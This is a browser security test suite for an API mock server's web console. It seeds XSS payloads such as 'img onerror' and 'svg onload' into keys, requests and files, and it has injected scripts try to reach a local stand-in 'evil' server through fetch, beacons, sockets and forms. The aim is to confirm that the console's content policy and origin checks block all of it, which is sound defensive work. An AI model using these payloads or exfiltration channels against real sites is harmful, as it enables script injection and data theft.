import { createServer, type Server } from 'node:http';
import type { Page } from 'playwright-core';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { onLoopback } from '../../../spec/proof/processes.ts';
import type { MockOptions } from '../../index.ts';
import { acme } from '../acme.ts';
import { chromium, consoleBrowser, type OpenConsole } from '../console-browser.ts';
import { payloadFor, poisonedTenant } from './poisoned-tenant.ts';

/** Every view of the console, and whether the payload is among what it shows. */
const views = { keys: true, requests: true, limits: true, data: true, time: true, reference: false };

const browser = consoleBrowser();
/** Whoever is behind the payload: what reaches this server was loaded or leaked. */
let evil: Server;
let evilUrl: string;
const loaded: string[] = [];
let page = '';
beforeAll(async () => {
  evil = createServer(({ url = '' }, response) => {
    if (url !== '/page') loaded.push(url);
    response.setHeader('content-type', 'text/html').setHeader('access-control-allow-origin', '*');
    response.end(url === '/page' ? page : '');
  });
  evilUrl = await onLoopback(evil);
});
afterEach(async () => {
  await browser.tidy();
  loaded.length = 0;
});
afterAll(() => {
  evil.close();
});

/** A console in a browser that would let it load from this machine whatever it likes: only its policy is in the way. */
async function openTrusted(options: MockOptions = {}) {
  const open = await browser.open({}, options);
  // An older Chromium knows no such permission, and asks for none.
  await open.page
    .context()
    .grantPermissions(['local-network-access'])
    .catch(() => undefined);
  return open;
}

async function expectUnharmed({ page }: OpenConsole) {
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false);
  expect(loaded).toEqual([]);
}

/** Puts the payload into the page itself, as a hole in the server would. */
async function inject(tab: Page, payload: string, headers: Readonly<Record<string, string>> = {}) {
  await tab.route('**/_mock', async (route) => {
    const response = await route.fetch();
    // What leads away from the page would end the test before it has seen anything.
    const markup = payload.replace('http-equiv="refresh"', '');
    const body = (await response.text()).replace(/<body[^>]*>/, (start) => start + markup);
    await route.fulfill({ response, body, headers: { ...response.headers(), ...headers } });
  });
  await tab.goto('about:blank');
}

describe.skipIf(chromium === null)('the console', () => {
  it('shows hostile names, messages, files, keys and requests as text, in every view', async () => {
    const payload = payloadFor(evilUrl);
    const seeds = [await poisonedTenant(payload)];
    const open = await openTrusted({ rateLimit: false, seeds });
    const { mock, url, call, go, page, complaints } = open;
    mock.keys.create('acme', { name: '<img src=x onerror=window.pwned=1><svg onload=window.pwned=1>', scopes: [] });
    mock.faults.add({ path: `/v1/nothing/${encodeURIComponent(payload)}`, reply: { status: 503, message: payload } });
    mock.faults.add({ key: payload, latency: 1 });
    const headers = { 'content-type': 'application/json', 'x-note': payload, 'user-agent': payload };
    const post = (path: string, body: unknown) =>
      call(path, acme.full, { method: 'POST', headers, body: JSON.stringify(body) });
    const start = await (await post(`/v1/site/${acme.site}/file/upload-url`, { contentType: 'text/html' })).json();
    await fetch(start.uploadUrl, { method: 'PUT', body: payload, headers: { 'content-type': 'text/html' } });
    await post(`/v1/site/${acme.site}/file`, { fileKey: start.fileKey, name: payload });
    await call(`/v1/conversation/${acme.open}/context?q=${encodeURIComponent(payload)}`);
    await call(`/v1/site/${encodeURIComponent(payload)}`, acme.full, { headers });
    await call(`/v1/nothing/${encodeURIComponent(payload)}`, acme.full, { headers });
    await call('/v1/labels', payload.replaceAll(/[^\x20-\x7e]/g, ''));

    for (const [view, shows] of Object.entries(views)) {
      await go(`#/${view}`);
      if (shows) await page.getByText('window.pwned=1').first().waitFor({ state: 'attached' });
      await expectUnharmed(open);
    }
    await go('#/requests');
    for (const { id } of mock.journal.list()) {
      await page.locator(`[data-exchange="${id}"]`).locator('.opens').click();
      await page.getByRole('region', { name: `Details of request ${id}` }).waitFor();
    }
    // Scripts run late: whatever was to come has come by now.
    await page.evaluate(() => new Promise((resolve) => requestIdleCallback(resolve)));
    await expectUnharmed(open);
    expect(
      await page.locator('iframe, object, embed, base, svg[onload], img[onerror], a[href^="javascript"]').count(),
    ).toBe(0);
    expect(complaints).toEqual([]);
    expect(url).not.toContain(evilUrl);
  });

  it('would run and load injected HTML without its policy, so that the next test proves something', async () => {
    const { page: tab, url } = await openTrusted();
    await inject(tab, payloadFor(evilUrl), { 'content-security-policy': '' });
    await tab.goto(`${url}/_mock`);
    await tab.waitForFunction(() => 'pwned' in window);
    await expect.poll(() => loaded).toEqual(expect.arrayContaining(['/script', '/image', '/frame', '/style']));
  });

  it('runs and loads no injected HTML, because the policy forbids it', async () => {
    const open = await openTrusted();
    const { page: tab, url } = open;
    await inject(tab, payloadFor(evilUrl));
    const blocked: string[] = [];
    await tab.exposeFunction('report', (directive: string) => void blocked.push(directive));
    await tab.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
        (window as unknown as { report(directive: string): void }).report(effectiveDirective),
      );
    });
    await tab.goto(`${url}/_mock`);
    await tab.getByRole('heading', { level: 1 }).waitFor();
    await expect
      .poll(() => [...new Set(blocked)].sort())
      .toEqual(
        expect.arrayContaining([
          'base-uri',
          'frame-src',
          'img-src',
          'script-src-attr',
          'script-src-elem',
          'style-src-elem',
        ]),
      );
    await expectUnharmed(open);
  });

  it('gives an injected script no HTML from text, no eval and no request elsewhere', async () => {
    const open = await openTrusted();
    const outcomes = await open.page.evaluate(async (evil) => {
      const attempts: Record<string, () => unknown> = {
        innerHTML: () => {
          document.body.innerHTML = '<b>';
        },
        insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', '<b>'),
        write: () => document.write('<b>'),
        srcdoc: () => {
          document.createElement('iframe').srcdoc = '<b>';
        },
        'text of a script': () => {
          document.createElement('script').text = 'window.pwned=1';
        },
        'source of a script': () => {
          document.createElement('script').src = `${evil}/script`;
        },
        worker: () => new Worker(`${evil}/worker`),
        fetch: () => fetch(`${evil}/fetch`, { mode: 'no-cors' }),
        beacon: () => navigator.sendBeacon(`${evil}/beacon`, 'x') || Promise.reject(new Error('refused')),
        image: () =>
          new Promise((resolve, reject) => {
            const image = new Image();
            image.onload = resolve;
            image.onerror = reject;
            image.src = `${evil}/image`;
          }),
        socket: () =>
          new Promise((resolve, reject) => {
            const socket = new WebSocket(`${evil.replace('http', 'ws')}/socket`);
            socket.onopen = resolve;
            socket.onerror = reject;
          }),
        events: () =>
          new Promise((resolve, reject) => {
            const events = new EventSource(`${evil}/events`);
            events.onopen = resolve;
            events.onerror = reject;
          }),
        form: () =>
          new Promise((_, reject) => {
            document.addEventListener('securitypolicyviolation', reject, { once: true });
            const form = document.body.appendChild(document.createElement('form'));
            form.action = `${evil}/form`;
            form.method = 'post';
            form.submit();
          }),
        // Not here and now: what the debugger itself runs may use eval.
        eval: () =>
          new Promise((resolve, reject) => {
            setTimeout(() => {
              try {
                resolve(new Function('window.pwned=1')());
              } catch (error) {
                reject(error);
              }
            });
          }),
      };
      const outcomes: Record<string, string> = {};
      for (const [name, attempt] of Object.entries(attempts)) {
        try {
          await attempt();
          outcomes[name] = 'done';
        } catch {
          outcomes[name] = 'refused';
        }
      }
      return outcomes;
    }, evilUrl);
    // A beacon says that it is queued before the policy is asked; what counts is that none arrives.
    const { beacon: _, ...others } = outcomes;
    expect(others).toEqual(Object.fromEntries(Object.keys(others).map((name) => [name, 'refused'])));
    await expectUnharmed(open);
  });

  it('cannot be framed by a page of another origin, which cannot write to the mock either', async () => {
    const open = await openTrusted();
    const { mock, url, page: tab } = open;
    const before = JSON.stringify((await mock.snapshot()).tenants);
    const { port } = new URL(url);
    page = `<iframe id="frame" src="${url}/_mock"></iframe><img src="${url}/_mock/snapshot">
      <form id="form" method="post" enctype="text/plain" target="frame" action="${url}/_mock/reset"><input name='{"tenant":"acme"}' value=""></form>`;
    // The same address, and another name for this machine, as DNS rebinding would have it.
    for (const origin of [evilUrl, `http://evil.localhost:${port}`]) {
      await tab.goto(`${origin}${origin === evilUrl ? '/page' : '/_mock'}`);
      const outcomes = await tab.evaluate(
        async (to) => {
          (document.getElementById('form') as HTMLFormElement | null)?.submit();
          const simple = { method: 'POST', mode: 'no-cors', body: '{"from":"acme"}' } as const;
          const json = { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{"from":"acme"}' };
          const status = (reply: Response) => reply.status;
          return Promise.all([
            fetch(`${to}/_mock/tenants`, simple).then(status, () => 'failed'),
            fetch(`${to}/_mock/tenants`, json).then(status, () => 'failed'),
            fetch(`${to}/_mock/keys`).then(status, () => 'failed'),
            fetch(`${to}/_mock/tenants/acme`, { method: 'DELETE' }).then(status, () => 'failed'),
          ]);
        },
        origin === evilUrl ? url : '',
      );
      // 0 is the status of a reply that the page may not look at.
      expect(outcomes).toEqual(origin === evilUrl ? [0, 'failed', 'failed', 'failed'] : [403, 403, 403, 403]);
      expect(tab.frames().filter((frame) => frame.url().startsWith(`${url}/_mock`))).toEqual([]);
    }
    expect(JSON.stringify((await mock.snapshot()).tenants)).toBe(before);
  });

  it('serves a hostile file as a download that no browser runs', async () => {
    const open = await openTrusted();
    const { url, page: tab, call } = open;
    const headers = { 'content-type': 'application/json' };
    const body = '{"contentType":"text/html"}';
    const started = await call(`/v1/site/${acme.site}/file/upload-url`, acme.full, { method: 'POST', headers, body });
    const { uploadUrl, fileKey } = await started.json();
    await fetch(uploadUrl, {
      method: 'PUT',
      body: `<body>${payloadFor(evilUrl)}`,
      headers: { 'content-type': 'text/html' },
    });
    const download = tab.waitForEvent('download');
    await tab.goto(`${url}/_mock/files/${fileKey}/content`).catch(() => undefined);
    expect((await download).suggestedFilename()).toBe(fileKey);
    await expectUnharmed(open);
  });
});
